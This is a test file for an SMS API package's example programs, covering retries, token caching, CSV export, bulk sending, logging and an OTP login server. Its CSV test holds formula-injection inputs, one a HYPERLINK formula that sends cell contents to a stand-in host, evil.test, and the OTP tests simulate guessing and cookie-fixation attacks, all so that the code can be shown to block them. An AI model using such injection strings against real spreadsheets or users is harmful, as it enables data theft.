// Every program of `examples`, as the package has them, compiles in strict TypeScript and does what its first lines say. The Worker
// also runs in workerd: see tests/ecosystem/workerd.
import assert from "node:assert/strict";
import { execFile, execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { appendFile, chmod, cp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import { freePort } from "../ecosystem/shared/serve.mjs";
import { compile, makeFolder, run, serve, serveApart, start } from "./serve.mjs";

const EXAMPLES = join(import.meta.dirname, "node_modules/smsworks-wasm/examples");
const example = (name) => join(EXAMPLES, `${name}.mjs`);
const CREDITS = ["1000 credits are left"];

test("they compile in strict TypeScript", async (t) => {
  // What is in a package is not checked.
  const folder = await makeFolder(t);
  await cp(EXAMPLES, folder, { recursive: true });
  await compile((await readdir(folder)).map((name) => join(folder, name)));
});

test("a send that failed is made again where it did nothing, and looked for where that is not known", async (t) => {
  const { sandbox, env, count } = await serve(t);
  const program = example("send-again");
  const sent = async () => {
    const [line] = await run(program, env);
    assert.equal(line, `The text ${sandbox.messages.at(-1).messageid} is on its way`);
  };
  const operation = "POST /message/send";

  sandbox.fail({ operation, status: 429, retryAfter: 0, times: 4 });
  await sent();
  assert.equal(count(operation), 5);

  for (const fault of [{ status: 502 }, { network: "cut" }]) {
    sandbox.reset();
    sandbox.fail({ operation, ...fault, times: 1 });
    if (fault.network) await sent();
    else await assert.rejects(run(program, env), /effect: 'unknown'/);
    assert.equal(count(operation), 1, "sends");
    assert.equal(count("POST /messages"), 1, "searches");
  }
});

test("processes that share a file make one login, and nobody else can read it", async (t) => {
  const { sandbox, env, count } = await serve(t);
  const folder = await makeFolder(t);
  const file = join(folder, "token");
  const start = () => run(example("token-in-a-file"), { ...env, TOKEN_FILE: file });
  await writeFile(file, "no token");
  await chmod(file, 0o644);
  for (let times = 0; times < 2; times++) assert.deepEqual(await start(), CREDITS);
  assert.equal(count("login"), 1);
  assert.match(await readFile(file, "utf8"), /^JWT eyJ/);
  assert.equal((await stat(file)).mode & 0o077, 0);
  assert.deepEqual(await readdir(folder), ["token"]);
  sandbox.revokeTokens();
  for (let times = 0; times < 2; times++) assert.deepEqual(await start(), CREDITS);
  assert.equal(count("login"), 2);
});

test("processes that share Redis make one login, before and after it is restarted, and each its own while it is down", async (t) => {
  try {
    execFileSync("redis-server", ["--version"]);
  } catch {
    console.log("skipped: the example with Redis: redis-server is not installed");
    return t.skip("redis-server is not installed");
  }
  const { sandbox, env, count } = await serve(t);
  const [folder, port] = [await makeFolder(t), await freePort()];
  const start = () => run(example("token-in-redis"), { ...env, REDIS_URL: `redis://127.0.0.1:${port}` });
  const logsIn = async (starts, logins, why) => {
    const before = count("login");
    for (const printed of await Promise.all(starts.map((start) => start()))) assert.deepEqual(printed, CREDITS);
    assert.equal(count("login") - before, logins, why);
  };

  const stop = await startRedis(t, port, folder);
  await logsIn([start], 1, "there is no token yet");
  await logsIn([start, start], 0, "there is one");
  await stop();
  await logsIn([start, start], 2, "each for itself while Redis is down");
  const stopAgain = await startRedis(t, port, folder);
  await logsIn([start, start], 0, "Redis has kept the token");
  sandbox.revokeTokens();
  await logsIn([start], 1, "the API refuses that token");
  await logsIn([start, start], 0, "the new one is there for all");
  await stopAgain();
});

/** Starts a Redis that keeps its data in a folder. */
async function startRedis(t, port, folder) {
  const args = ["--port", String(port), "--bind", "127.0.0.1", "--dir", folder, "--appendonly", "yes"];
  const redis = spawn("redis-server", args, { stdio: ["ignore", "pipe", "inherit"] });
  const ended = once(redis, "close");
  const stop = async (signal) => {
    redis.kill(signal);
    await ended;
  };
  // One whose folder is gone would not end by itself.
  t.after(() => stop("SIGKILL"));
  for await (const chunk of redis.stdout.iterator({ destroyOnReturn: false })) {
    if (/Ready to accept connections/.test(chunk)) break;
  }
  redis.stdout.resume();
  return stop;
}

const ANSWERED = (operation) => ({ operation, status: 201, times: 1 });

test("a month of texts becomes a CSV file, written as it comes, with nothing in it that a spreadsheet would run", async (t) => {
  let now = Date.parse("2029-12-31T23:59:59.999Z");
  const { sandbox, env, sms } = await serve(t, { now: () => now, credits: 10_000 });
  const folder = await makeFolder(t);
  const file = join(folder, "texts.csv");
  const send = (content, tag) => sms.messages.send({ sender: "Us", destination: "447777777777", content, tag });
  const receive = (content) => sandbox.receive({ sender: "447777777778", destination: "447777777777", content });

  await send("too early");
  now = Date.parse("2030-01-01T00:00:00Z");
  const plain = ["first", "a, b", 'says "hi"', "two\nlines", "two\r\nlines", ' "', "£5 é 😀", "a;b"];
  for (const content of plain) await send(content, "a tag");
  const evil = {
    "=1+1": "'=1+1",
    "+447777": "'+447777",
    "-2": "'-2",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "\t'=1",
    " =1": " '=1",
    '=HYPERLINK("http://evil.test?"&A1,"x")': '\'=HYPERLINK("http://evil.test?"&A1,"x")',
    'a";=1+1;"': 'a";\'=1+1;"',
    "a\r\n=1": "a\r\n'=1",
    "a;;=1": "a;;'=1",
    "＝1+1": "'＝1+1",
  };
  for (const content of Object.keys(evil)) receive(content);
  await send("tagged", "=tag");
  await sms.batches.send({
    sender: "Us",
    content: "many",
    destinations: Array.from({ length: 2500 }, (_, at) => 447700000000 + at),
  });
  now = Date.parse("2030-01-31T23:59:59.999Z");
  await send("last");
  now += 1;
  await send("too late");

  const args = ["2030-01", file];
  const operation = "POST /messages";
  sandbox.fail({ ...ANSWERED(operation), status: 200 });
  sandbox.fail({ operation, status: 400, times: 1 });
  await assert.rejects(run(example("export-to-csv"), env, folder, args), /SmsWorksError/);
  assert.deepEqual(await readdir(folder), ["texts.csv.part"], "there is no file until it is whole");
  assert.match(await readFile(`${file}.part`, "utf8"), /first/, "the first page was written before the second came");

  const { stdout, stderr } = await promisify(execFile)(process.execPath, [example("export-to-csv"), ...args], { env });
  assert.equal(stdout, "");
  const lines = stderr.trim().split("\n");
  assert.equal(lines.length, 3);
  assert.match(lines[0], /^1000 texts, up to 2030-01-01T/);
  assert.equal(lines[2], "2521 texts: that is all");
  assert.deepEqual(await readdir(folder), ["texts.csv"]);
  assert.equal((await stat(file)).mode & 0o077, 0);

  const text = await readFile(file, "utf8");
  t.diagnostic(text.split("\r\n").slice(0, 12).join("\r\n"));
  const [head, ...rows] = readCsv(text);
  assert.deepEqual(head, ["messageid", "batchid", "created", "status", "sender", "destination", "content", "tag"]);
  const contents = rows.map((row) => row[6]);
  assert.deepEqual(contents, [...plain, ...Object.values(evil), "tagged", ...Array(2500).fill("many"), "last"]);
  assert.deepEqual(rows[0].slice(2), ["2030-01-01T00:00:00.000Z", "DELIVERED", "Us", "447777777777", "first", "a tag"]);
  assert.equal(rows[plain.length + Object.keys(evil).length][7], "'=tag");
  assert.equal(new Set(rows.map(([messageid]) => messageid)).size, 2521);

  await assert.rejects(run(example("export-to-csv"), env, folder, ["2030-13"]), { code: 2 });
});

/** The fields of each line, by RFC 4180 to the letter. */
function readCsv(text) {
  const [, records] = /^\uFEFF([^]*)$/.exec(text);
  const rows = [[]];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (field.lastIndex < records.length) {
    const at = field.lastIndex;
    const found = field.exec(records);
    assert.ok(found, `no field at ${at}: ${records.slice(at, at + 40)}`);
    rows.at(-1).push(found[1]?.replaceAll('""', '"') ?? found[2]);
    if (found[3] !== ",") rows.push([]);
  }
  assert.deepEqual(rows.pop(), []);
  return rows;
}

test("12,000 texts go out once each, however often and whenever their program is killed", {
  timeout: 180_000,
}, async (t) => {
  const SEND = "POST /batch/send";
  const numbers = Array.from({ length: 12_000 }, (_, at) => String(447_700_000_000 + at));
  const { env, ask, until } = await serveApart(t, { credits: 12_000 });
  const folder = await makeFolder(t);
  const file = join(folder, "numbers.txt");
  // Some twice, in another spelling.
  await writeFile(file, `${numbers.join("\n")}\n+${numbers[0]}\r\n\n${numbers[1].replace(/^44/, "44 ")}`);
  const begin = (stderr = "inherit") => {
    const program = example("send-to-many");
    const own = { ...env, SETTLE_SECONDS: "0.5" };
    const child = spawn(process.execPath, [program, file], { env: own, stdio: ["ignore", "pipe", stderr] });
    const lines = child.stdout.setEncoding("utf8").toArray();
    const ended = once(child, "close").then(async ([code]) => ({ code, printed: (await lines).join("") }));
    const kill = () => {
      child.kill("SIGKILL");
      return ended;
    };
    return { ended, kill };
  };
  const again = async () => {
    await ask("reset");
    await rm(`${file}.sent`, { force: true });
  };
  const eachHasOne = async () => {
    const got = new Map(numbers.map((number) => [number, 0]));
    for (const { destination } of await ask("messages")) got.set(String(destination), got.get(String(destination)) + 1);
    assert.deepEqual(
      [...got].filter(([, texts]) => texts !== 1),
      [],
      "some got none, or two",
    );
  };
  const finishes = async () => {
    const { code, printed } = await begin().ended;
    assert.equal(code, 0);
    assert.match(printed, /All 12000 have it\n$/);
    return printed;
  };

  await t.test("killed once the second batch was taken, and before its program knows", async (t) => {
    await ask("fail", ANSWERED(SEND));
    await ask("fail", { operation: SEND, network: "stall", times: 1 });
    const first = begin();
    await until("messages", 10_000);
    const { printed: before } = await first.kill();
    const after = await finishes();
    t.diagnostic(`${before}(killed)\n${after}`);
    assert.match(after, /was taken\n10000 have it already\n12000 of 12000/);
    await eachHasOne();
    assert.equal(await finishes(), "12000 have it already\nAll 12000 have it\n");
    await eachHasOne();
  });

  await t.test("killed while the second batch was on its way, and half of a line was written", async () => {
    await again();
    await ask("fail", ANSWERED(SEND));
    await ask("fail", { operation: SEND, delayMs: 60_000, times: 1 });
    const first = begin();
    await until("requests", 2, SEND);
    await first.kill();
    await appendFile(`${file}.sent`, '{"batchid":"1');
    assert.match(await finishes(), /was not taken\n5000 have it already\n10000 of 12000/);
    await eachHasOne();
    assert.equal(await finishes(), "12000 have it already\nAll 12000 have it\n");
  });

  await t.test("where the connection breaks, or there are not enough credits for a while", async () => {
    await again();
    await ask("fail", ANSWERED(SEND));
    await ask("fail", { operation: SEND, network: "cut", times: 1 });
    await ask("fail", { operation: SEND, status: 402, times: 1 });
    for (const done of [5000, 10_000]) {
      const { code, printed } = await begin("ignore").ended;
      assert.equal(code, 1);
      assert.match(printed, new RegExp(`^(.*\n)*${done} (of|have)`));
    }
    assert.doesNotMatch(await finishes(), /under way/);
    await eachHasOne();
  });

  await t.test("killed at any moment", async (t) => {
    await again();
    const began = performance.now();
    await finishes();
    const wholeMs = performance.now() - began;
    const runs = [];
    for (let run = 0; run < 8; run++) {
      await again();
      const kills = [];
      for (let ended = false; !ended && kills.length < 4; ) {
        const program = begin();
        const afterMs = Math.round((0.2 + Math.random()) * wholeMs);
        const timer = setTimeout(program.kill, afterMs);
        ended = (await program.ended).code === 0;
        clearTimeout(timer);
        if (!ended) kills.push(`${afterMs} ms: ${(await ask("messages")).length}`);
      }
      await finishes();
      await eachHasOne();
      runs.push(kills.join(", ") || "not killed");
    }
    t.diagnostic(`killed after (and then there were so many texts):\n${runs.join("\n")}`);
  });

  await t.test("a number that is none is found before anything is sent", async () => {
    await again();
    await writeFile(file, "447777777777\n07777777777\n");
    await assert.rejects(run(example("send-to-many"), env, folder, [file]), /Line 2 is no telephone number/);
    assert.deepEqual(await ask("requests"), []);
  });
});

test("each request is a line of log, with the id that it was sent with, as are waits and failures", async (t) => {
  const { sandbox, env } = await serve(t);
  const operation = "POST /message/send";
  sandbox.fail({ operation, status: 503, retryAfter: 1, times: 1 });
  sandbox.fail({ operation, status: 402, times: 1 });
  const { stdout } = await run(example("log"), env).then(
    () => assert.fail("one of the two was not sent"),
    (error) => error,
  );
  t.diagnostic(stdout);
  const lines = stdout
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line));
  const ids = sandbox.requests
    .filter((request) => request.operation === operation)
    .map(({ headers }) => headers["x-request-id"]);
  assert.equal(new Set(ids).size, 2);
  assert.ok(sandbox.requests.every(({ headers }) => headers["x-client"] === "shop/1.0"));
  const shown = (id) =>
    lines.filter((line) => line.id === id).map(({ level, type, status, code }) => [level, type, status ?? code]);
  const login = [["info", "response", 200]];
  const [sentAgain, failed] = ids[0] === ids[2] ? [ids[0], ids[1]] : [ids[1], ids[0]];
  assert.deepEqual(shown(undefined), login);
  assert.deepEqual(
    [shown(sentAgain), shown(failed)],
    [
      [
        ["info", "response", 503],
        ["warn", "retry", undefined],
        ["info", "response", 201],
      ],
      [
        ["info", "response", 402],
        ["error", "failure", "http"],
      ],
    ],
  );
  for (const secret of Object.values(env).filter((value) => /^(key|secret)-1$/.test(value)))
    assert.ok(!stdout.includes(secret));
  assert.doesNotMatch(stdout, /JWT|447777|parcel/);
});

test("each request is a span, inside that of the call that it is for", async (t) => {
  const { sandbox, env } = await serve(t);
  const send = "POST /message/send";
  sandbox.fail({ operation: send, status: 503, retryAfter: 1, times: 1 });
  sandbox.fail({ operation: send, status: 402, times: 1 });
  sandbox.fail({ operation: "GET /credits/balance", network: "refuse", times: 1 });
  const NODE_OPTIONS = `--import=${pathToFileURL(join(import.meta.dirname, "spans.mjs"))}`;
  const [credits, ...lines] = await run(example("opentelemetry"), { ...env, NODE_OPTIONS });
  t.diagnostic(lines.join("\n"));
  assert.match(credits, /^999 credits/);
  const spans = lines.map((line) => JSON.parse(line));
  const show = ({ name, attributes, status, events }) => [
    name,
    attributes["http.request.method"],
    attributes["url.template"],
    attributes["http.response.status_code"],
    attributes["http.request.resend_count"],
    attributes["error.type"],
    status.code,
    events.map(({ name }) => name).join(),
  ];
  const [ERROR, UNSET] = [2, 0];
  const none = undefined;
  const own = spans.filter(({ name }) => name === "notify");
  assert.equal(own.length, 2);
  const inside = (span) => spans.filter(({ parent }) => parent === span.id).map(show);
  const [again, refused] = own[0].status.code === UNSET ? own : own.reverse();
  assert.deepEqual(
    again.events.map(({ name }) => name),
    ["retry"],
  );
  assert.deepEqual(
    refused.events.map(({ name }) => name),
    ["failure"],
  );
  assert.deepEqual(inside(again), [
    [send, "POST", "/message/send", 503, none, "503", ERROR, ""],
    [send, "POST", "/message/send", 201, 1, none, UNSET, ""],
  ]);
  assert.deepEqual(inside(refused), [[send, "POST", "/message/send", 402, none, "402", ERROR, ""]]);
  const alone = spans.filter(({ name, parent }) => name !== "notify" && parent === undefined).map(show);
  assert.deepEqual(alone, [
    ["login", none, none, 200, none, none, UNSET, ""],
    ["GET /credits/balance", "GET", "/credits/balance", none, none, "no answer", ERROR, ""],
    ["GET /credits/balance", "GET", "/credits/balance", 200, 1, none, UNSET, ""],
  ]);
  assert.doesNotMatch(lines.join("\n"), /JWT|key-1|secret-1|447777|parcel/);
});

test("the test of the server passes, with the sandbox that it starts", async () => {
  const { SMSWORKS_KEY, SMSWORKS_SECRET, NODE_TEST_CONTEXT, ...env } = process.env;
  const lines = await run(example("one-time-password.test"), env);
  assert.ok(lines.some((line) => /^(#|ℹ) pass 1$/.test(line)));
});

test("openapi-fetch makes a request by sms.fetch", async (t) => {
  const { env } = await serve(t);
  assert.deepEqual(await run(example("openapi-fetch"), env), CREDITS);
});

test("the Worker sends texts for those who have its password, with one login", async (t) => {
  const { sandbox, env, count } = await serve(t);
  const { default: worker } = await import(example("cloudflare-worker"));
  const kept = new Map();
  const TOKENS = {
    get: async (key) => kept.get(key) ?? null,
    put: async (key, value) => void kept.set(key, value),
    delete: async (key) => void kept.delete(key),
  };
  const ask = (password, env) =>
    worker.fetch(new Request("https://own.test/", { headers: { Authorization: `Bearer ${password}` } }), env);
  const own = { ...env, TOKENS, PASSWORD: "a password" };
  assert.equal((await ask("another", own)).status, 401);
  assert.equal((await ask("undefined", { ...own, PASSWORD: undefined })).status, 401);
  assert.equal((await ask("", { ...own, PASSWORD: "" })).status, 401);
  for (const messages of [1, 2]) {
    assert.deepEqual(await (await ask("a password", own)).json(), { status: "SENT" });
    assert.equal(sandbox.messages.length, messages);
    assert.equal(count("login"), 1);
  }
});

test("the server of one-time passwords", async (t) => {
  const OWN = "447777777777";
  const VICTIM = "447777777778";
  const VERIFY = "POST /otp/verify";

  const begin = async (t) => {
    const { sandbox, env, count } = await serve(t);
    const url = await start(t, example("one-time-password"), { ...env, PORT: "0" });
    /** Somebody at a browser, which keeps the cookie. */
    const visit = (cookie = "") => {
      const visitor = async (method, path, fields) => {
        const body = typeof fields === "string" ? fields : fields && JSON.stringify(fields);
        const response = await fetch(`${url}${path}`, { method, headers: { cookie: visitor.cookie }, body });
        visitor.cookie = response.headers.get("set-cookie")?.split(";")[0] ?? visitor.cookie;
        return { status: response.status, ...(await response.json()) };
      };
      visitor.cookie = cookie;
      visitor.code = async (phone) => (await visitor("POST", "/code", { phone })).status;
      visitor.login = async (passcode, more) => (await visitor("POST", "/login", { passcode, ...more })).status;
      visitor.phone = async () => (await visitor("GET", "/me")).phone;
      return visitor;
    };
    const last = () => sandbox.messages.at(-1);
    const passcode = () => /\d{6}/.exec(last().content)[0];
    const wrong = () => (passcode() === "000000" ? "000001" : "000000");
    return { sandbox, count, visit, last, passcode, wrong };
  };

  await t.test("lets in who has the code, once", async (t) => {
    const { visit, passcode, wrong } = await begin(t);
    const visitor = visit();
    assert.equal(await visitor.phone(), undefined);
    assert.equal(await visitor.login("123456"), 400, "a code that nobody asked for");
    assert.equal(await visitor.code(OWN), 200);
    assert.equal(await visitor.phone(), undefined);
    assert.equal(await visitor.login(wrong()), 403);
    const before = visitor.cookie;
    assert.equal(await visitor.login(passcode()), 200);
    assert.equal(await visitor.phone(), OWN);

    assert.equal(await visitor.login(passcode()), 400, "the code was used");
    assert.equal(await visit(before).login(passcode()), 400, "the code was used, with the cookie of that time");
    assert.equal(await visit(before).phone(), undefined);
  });

  await t.test("an attacker's own messageid and phone change nothing", async (t) => {
    const { visit, last, passcode } = await begin(t);
    const attacker = visit();
    await attacker.code(OWN);
    const own = { messageid: last().messageid, passcode: passcode() };
    await attacker.code(VICTIM);
    assert.equal(await attacker.login(own.passcode, { messageid: own.messageid, phone: OWN }), 403);
    assert.equal(await attacker.phone(), undefined);

    const other = visit();
    await other.code(OWN);
    const second = { messageid: last().messageid, passcode: passcode() };
    assert.equal(await other.login(second.passcode, { messageid: second.messageid, phone: VICTIM }), 200);
    assert.equal(await other.phone(), OWN, "the phone that the code went to, and no other");
  });

  await t.test("a code is not verified where the API says that it went to another phone", async (t) => {
    const { sandbox, visit, passcode } = await begin(t);
    const attacker = visit();
    await attacker.code(VICTIM);
    // An API that looks for the code alone would find the attacker's own.
    sandbox.fail({ operation: VERIFY, status: 200, body: { status: "VERIFIED", destination: OWN }, times: 1 });
    assert.equal(await attacker.login(passcode()), 403);
    sandbox.fail({ operation: VERIFY, status: 200, body: { status: "VERIFIED" }, times: 1 });
    assert.equal(await attacker.login(passcode()), 403);
    assert.equal(await attacker.phone(), undefined);
  });

  await t.test("a code that was asked for by another visitor is of no use", async (t) => {
    const { visit, passcode } = await begin(t);
    const victim = visit();
    await victim.code(VICTIM);
    const attacker = visit();
    assert.equal(await attacker.login(passcode()), 400);
    await attacker.code(OWN);
    const own = passcode();
    assert.equal(await victim.login(own), 403);
    assert.equal(await visit("id=x; id=y").login(own), 400);
  });

  await t.test("who guesses is stopped, however fast they are", async (t) => {
    const { count, visit, passcode, wrong } = await begin(t);
    const attacker = visit();
    await attacker.code(VICTIM);
    const statuses = await Promise.all(Array.from({ length: 30 }, () => attacker.login(wrong())));
    assert.deepEqual(statuses.sort(), [...Array(5).fill(403), ...Array(25).fill(429)]);
    assert.equal(count(VERIFY), 5);
    assert.equal(await attacker.login(passcode()), 429, "even with the right code");

    // Another code is another five guesses, and there are five in an hour, for whoever asks.
    const others = await Promise.all(Array.from({ length: 30 }, () => visit().code(VICTIM)));
    assert.deepEqual(others.sort(), [...Array(4).fill(200), ...Array(26).fill(429)]);
    assert.equal(count("POST /otp/send"), 5);
    assert.equal(await visit().code(OWN), 200, "another phone");
  });

  await t.test("a cookie that an attacker has put into somebody's browser logs nobody else in", async (t) => {
    const { visit, passcode } = await begin(t);
    for (const asksFirst of [true, false]) {
      const attacker = visit();
      if (asksFirst) await attacker.code(OWN);
      else attacker.cookie = "id=chosen";
      const victim = visit(attacker.cookie);
      await victim.code(VICTIM);
      const asked = victim.cookie;
      assert.notEqual(asked, attacker.cookie);
      assert.equal(await victim.login(passcode()), 200);
      assert.notEqual(victim.cookie, asked);
      assert.equal(await victim.phone(), VICTIM);
      assert.equal(await attacker.phone(), undefined);
      assert.equal(await visit(asked).phone(), undefined);
    }
  });

  await t.test("a code that is too old lets nobody in, nor does an API that fails", async (t) => {
    const { sandbox, visit, passcode } = await begin(t);
    const visitor = visit();
    await visitor.code(OWN);
    sandbox.fail({ operation: VERIFY, status: 500, times: 1 });
    assert.equal(await visitor.login(passcode()), 500);
    sandbox.advance(300_000);
    assert.equal(await visitor.login(passcode()), 403);
    assert.equal(await visitor.phone(), undefined);
  });

  await t.test("what is no request of its kind is refused", async (t) => {
    const { sandbox, visit } = await begin(t);
    const visitor = visit();
    for (const phone of [
      undefined,
      null,
      "",
      "07777777777",
      "+447777777777",
      "44 7777777777",
      447777777777,
      [OWN],
      {},
    ]) {
      assert.equal(await visitor.code(phone), 400);
    }
    for (const body of [
      "",
      "null",
      "[",
      "1",
      `{"phone": "${OWN}"`,
      JSON.stringify({ phone: OWN, more: "x".repeat(1000) }),
    ]) {
      assert.equal((await visitor("POST", "/code", body)).status, 400);
    }
    assert.equal(sandbox.requests.length, 0);
    await visitor.code(OWN);
    for (const passcode of [undefined, null, "", 123456, "12345", "1234567", ["123456"], { length: 6 }]) {
      assert.equal(await visitor.login(passcode), 400);
    }
    for (const [method, path] of [
      ["GET", "/code"],
      ["POST", "/me"],
      ["GET", "/constructor"],
      ["POST", "/"],
    ]) {
      assert.equal((await visitor(method, path)).status, 404);
    }
  });
});
